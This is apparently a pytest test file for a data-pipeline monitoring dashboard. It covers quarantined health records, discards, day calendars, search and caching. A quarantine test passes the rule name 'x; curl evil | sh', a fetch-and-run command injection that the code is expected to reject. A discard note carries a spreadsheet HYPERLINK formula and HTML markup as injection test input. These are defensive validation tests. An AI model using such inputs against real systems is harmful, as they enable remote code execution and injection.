    assert before is None
    assert found == every
    for few, pages in ((1, [[], ["d"]]), (2, [[], ["d"]]), (3, [["d"]])):  # of entries, and no file of the page
        monkeypatch.setattr(ledger_files, "FEW", few)
        shown: list[list[str]] = []
        before = None
        while not shown or not shown[-1]:
            fresh = Source(made.settings, None)
            view = landed.file_details(fresh, made.definition, "things", state="replaced", before=before)
            shown.append([file.path for file in view.files])
            before = view.older
        assert shown[-1][0] == "d"
        assert len(shown) >= len(pages) - 1
    wrong = landed.file_details(lake, made.definition, "things", state="failed")
    assert [(file.path, file.error) for file in wrong.files] == [("bad", "no JSON")]
    with pytest.raises(PipelineMissing):
        landed.file_details(lake, made.definition, "things", state="lost")


# --- quarantine, days, search ----------------------------------------------------------------------------------------


def test_discarded_records_no_longer_count_as_waiting_and_are_shown_with_who_and_why(tmp_path: Path) -> None:
    world = PageWorld.at(tmp_path, runs=2)
    lake = Source(world.workspace.settings, patience=None)
    before = quarantined.quarantine_details(lake, world.definition, SILVER)
    note = '=HYPERLINK("http://x") <b>a test</b>'
    assert sg.discard(world.definition, SILVER, note=note, rules=["valid_heartrate"]) == 6
    view = quarantined.quarantine_details(lake, world.definition, SILVER)
    assert (view.records, view.discarded, view.reasons) == (0, 6, ())
    (made,) = view.discards
    assert (made.note, made.rules, made.records) == (note, ("valid_heartrate",), 6)
    assert {(one.note, one.discarded) for one in view.examples or ()} == {(note, made.time)}
    assert view.version not in ("", before.version)
    assert view.trend == before.trend  # which says what runs quarantined
    world.run(quarantined=1)
    view = quarantined.quarantine_details(lake, world.definition, SILVER, "valid_heartrate")
    assert (view.records, view.discarded) == (1, 6)
    assert [(one.rule, one.records) for one in view.reasons or ()] == [("valid_heartrate", 1)]
    assert [one.note for one in view.examples or ()] == ["", *[note] * 6]
    assert one_table.table_details(lake, world.definition, SILVER).quarantined == 1
    assert overview.line(lake, "heart_rate", (), datetime.now(UTC)).quarantined == 1
    nodes = {one.key: one for one in flow_graph.graph(lake, world.definition, ()).nodes}
    assert nodes[f"quarantine:{SILVER}"].rows == 1
    assert sg.discard(world.definition, SILVER, undo=True) == 6
    assert quarantined.quarantine_details(lake, world.definition, SILVER).discards == ()
    assert quarantined.quarantine_details(lake, world.definition, SILVER).records == 7


def test_quarantine_by_rule_with_records_as_they_came(
    world: PageWorld, lake: Source, monkeypatch: pytest.MonkeyPatch
) -> None:
    view = quarantined.quarantine_details(lake, world.definition, SILVER)
    assert view.reasons is not None
    assert [(reason.rule, reason.text, reason.records) for reason in view.reasons] == [
        ("valid_heartrate", "heartrate > 0", 9)
    ]
    assert view.examples is not None
    first = view.examples[0]
    assert dict(first.values)["heartrate"] == "-1.0"
    assert dict(first.values)["name"] == personal.HIDDEN
    assert json.loads(first.record)["heartrate"] == -1.0
    assert [count for _, count in view.trend] == [3, 3, 3]
    of_rule = quarantined.quarantine_details(lake, world.definition, SILVER, "known_patient")
    assert of_rule.examples == ()
    broken = quarantined.quarantine_details(lake, world.definition, SILVER, "valid_heartrate")
    assert broken.examples == view.examples
    monkeypatch.setattr(quarantined, "_records_with_rule", None)  # its result is remembered
    assert quarantined.quarantine_details(lake, world.definition, SILVER, "valid_heartrate").examples == view.examples
    with pytest.raises(PipelineMissing):
        quarantined.quarantine_details(lake, world.definition, SILVER, "x; curl evil | sh")
    assert quarantined.quarantine_details(lake, world.definition, SILVER, rows=False).examples is None
    with pytest.raises(PipelineMissing):
        quarantined.quarantine_details(lake, world.definition, "patients_bronze")


def test_days_have_their_rows_and_who_rebuilt_them(
    world: PageWorld, lake: Source, monkeypatch: pytest.MonkeyPatch
) -> None:
    view = days.day_details(lake, world.definition)
    assert (view.table, view.column, view.tables) == (SILVER, "time", (SILVER,))
    assert view.days is not None
    assert [(day.day, day.rows, day.rebuilt) for day in view.days] == [(date(2026, 3, 2), 105, None)]
    rows = {date(2026, 1, 1): 2, date(2026, 1, 3): 1}
    inside = batch(0, interval=("2026-01-01T00:00:00+00:00", "2026-01-02T00:00:00+00:00"), run_id="b")
    found = days._days(rows, [*days._committed_rebuilds([inside])])
    assert [(day.rows, day.run) for day in found] == [(2, "b"), (0, ""), (1, "")]
    part = replace(inside, interval=("2026-01-01T00:00:01+00:00", "2026-01-02T00:00:00+00:00"))
    assert [day.run for day in days._days(rows, [*days._committed_rebuilds([part])])] == ["", "", ""]  # not all of it
    assert days.day_details(lake, world.definition, "patients").table == ""


@pytest.mark.parametrize(
    ("run", "rebuilt"),
    [
        (DagRun("b", "success", "backfill", NOW, NOW, TWO_DAYS), True),
        (DagRun("b", "failed", "backfill", NOW, NOW, TWO_DAYS), False),
        (DagRun("s", "success", "scheduled", NOW, NOW, TWO_DAYS), False),
        (DagRun("b", "success", "backfill", NOW, NOW, TWO_DAYS, steps=(RunStep("silver", "success"),)), True),
        (DagRun("b", "success", "backfill", NOW, NOW, TWO_DAYS, steps=(RunStep("silver", "skipped"),)), False),
        (DagRun("b", "success", "backfill", NOW, NOW, TWO_DAYS, steps=(RunStep("silver", "failed"),)), False),
        (DagRun("b", "success", "backfill", NOW, NOW, TWO_DAYS, requested={"tables": [SILVER]}), True),
        (DagRun("b", "success", "backfill", NOW, NOW, TWO_DAYS, requested={"tables": [f"{SILVER}_2"]}), False),
        (DagRun("m", "success", "manual", NOW, NOW,
                requested={"from": "2026-03-02T00:00:00.000Z", "to": "2026-03-03T00:00:00.000Z"}), True),
        (DagRun("m", "success", "manual", NOW, NOW,
                requested={"from": "2026-03-02", "to": "2026-03-03", "tables": ["patients"]}), False),
        (DagRun("m", "success", "manual", NOW, NOW, requested={"from": "2026-03-02T00:00:00Z"}), False),
        (DagRun("m", "success", "manual", NOW, NOW, requested={"from": "yesterday", "to": "today"}), False),
    ],
)  # fmt: skip
def test_a_day_is_rebuilt_by_a_run_that_changed_no_row(
    world: PageWorld, lake: Source, run: DagRun, rebuilt: bool
) -> None:
    [day] = days.day_details(lake, world.definition, None, [run]).days or ()
    assert (day.rebuilt, day.run) == ((NOW, run.run_id) if rebuilt else (None, ""))


def test_times_that_python_has_none_for_are_texts_and_no_days(tmp_path: Path) -> None:
    uri = str(tmp_path / "t")
    micros = [days._FIRST - 1, days._FIRST, 0, 0, days._LAST, days._LAST + 1]
    times = pa.array([None, *(one * 86_400_000_000 for one in micros)], pa.timestamp("us", "UTC"))
    write_deltalake(uri, pa.table({"Time": times, "x": range(7)}))
    table = Source(Workspace(tmp_path).settings).table(uri)
    assert table is not None
    assert days._count_days(table, "time") == ({date(1, 1, 1): 1, date(1970, 1, 1): 2, date(9999, 12, 31): 1}, 3)
    assert days._count_days(table, "x") == days._count_days(table, "not yet") == ({}, 7)
    rows = one_table.newest_rows(table, ["Time", "x"], 7)
    assert [row["x"] for row in rows] == list(range(7))
    assert isinstance(rows[-1]["Time"], str)
    inside = [*days._committed_rebuilds([batch(0, interval=("0001-01-01", "9999-12-31"), run_id="b")])]
    assert [[one.run for one in days._days({day: 1}, [*inside])] for day in (date.min, date.max)] == [["b"], [""]]


@pytest.mark.parametrize(("most", "left_out"), [(2, 1), (3, 0), (4, 0)])
def test_a_calendar_has_SHOWN_days(
    world: PageWorld, lake: Source, monkeypatch: pytest.MonkeyPatch, most: int, left_out: int
) -> None:
    monkeypatch.setattr(days, "SHOWN", most)
    monkeypatch.setattr(days, "_count_days", lambda *_: ({date(2026, 1, 1): 2, date(2026, 1, 3): 1}, 0))
    view = days.day_details(Source(lake.settings, None), world.definition)
    assert view.left_out == left_out
    assert len(view.days or ()) == 3 - left_out


def test_search_finds_tables_and_columns_best_first(
    world: PageWorld, lake: Source, monkeypatch: pytest.MonkeyPatch
) -> None:
    found = find.search(lake, ["heart_rate"], "NAME")
    assert [(hit.table, hit.column) for hit in found] == [
        ("patients", "name"),
        ("patients_bronze", "name"),
        (SILVER, "name"),
    ]
    assert find.search(lake, ["heart_rate"], "daily")[0].column == ""
    assert not [hit for hit in find.search(lake, ["heart_rate"], "beats") if hit.comment]
    # Another definition may lie where the one before lay in memory.
    monkeypatch.setattr(find, "id", lambda _: 1, raising=False)
    said = world.definition.model_copy(deep=True)
    said.silver[SILVER].column_comments["heartrate"] = "beats in a minute"
    monkeypatch.setattr(lake, "pipeline", lambda _: said)
    assert [hit.comment for hit in find.search(lake, ["heart_rate"], "beats")] == ["beats in a minute"]
    assert find.search(lake, ["heart_rate"], "  ") == ()
    for most in (2, 3, 4):
        monkeypatch.setattr(find, "MOST", most)
        assert len(find.search(lake, ["heart_rate"], "name")) == min(most, 3)


# --- the source ------------------------------------------------------------------------------------------------------


def test_a_table_is_opened_once_for_each_of_its_versions(tmp_path: Path) -> None:
    made = Workspace(tmp_path)
    lake, uri = Source(made.settings), str(tmp_path / "lake" / "t")
    assert lake.table(uri) is None
    write_deltalake(uri, pa.table({"x": [1]}))
    first = lake.table(uri)
    assert lake.table(uri) is first
    computed: list[int] = []

    def rows(table: Any) -> int:
        computed.append(table.version())
        return int(table.count())

    assert [lake.compute_once(uri, "counted", rows) for _ in range(2)] == [1, 1]
    write_deltalake(uri, pa.table({"x": [2]}), mode="append")
    assert lake.rows(uri) == 2
    assert computed == [0]
    shutil.rmtree(uri)
    time.sleep(0.02)  # the clock of files ticks in some milliseconds
    write_deltalake(uri, pa.table({"x": [7, 8, 9]}))
    write_deltalake(uri, pa.table({"x": [7]}), mode="append")  # at the same version, and another table
    assert lake.rows(uri) == 4


@pytest.mark.parametrize("most", [1, 2, 3])
def test_memory_has_no_more_than_REMEMBERED(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, most: int) -> None:
    monkeypatch.setattr(source, "REMEMBERED", most)
    lake = Source(Workspace(tmp_path).settings)
    for name in ("a", "b"):
        lake.compute_soon(name, lambda name=name: name)  # type: ignore[misc]
    lake._workers.shutdown(wait=True)
    assert len(lake._memory) == min(most, 2)


def test_who_does_not_wait_gets_what_was_known(tmp_path: Path) -> None:
    hold = threading.Event()
    lake = Source(Workspace(tmp_path).settings, patience=0.01)

    def slow() -> str:
        assert hold.wait(10)
        return "done"

    assert lake.compute_soon("x", slow).value is None
    hold.set()
    lake._workers.shutdown(wait=True)
    assert lake.compute_soon("x", slow).value == "done"


def test_views_are_json(world: PageWorld, lake: Source) -> None:
    makers: list[Callable[[], Any]] = [
        lambda: overview.overview(lake, ["heart_rate"], {}),
        lambda: flow_graph.graph(lake, world.definition, ()),
        lambda: one_table.table_details(lake, world.definition, SILVER),
        lambda: days.day_details(lake, world.definition),
    ]
    for make in makers:
        assert json.loads(as_json.text(make()))
    assert as_json.facts({"a": float("nan"), "b": datetime(2026, 1, 1, tzinfo=UTC), "c": (1,)}) == {
        "a": None, "b": "2026-01-01T00:00:00+00:00", "c": [1],
    }  # fmt: skip
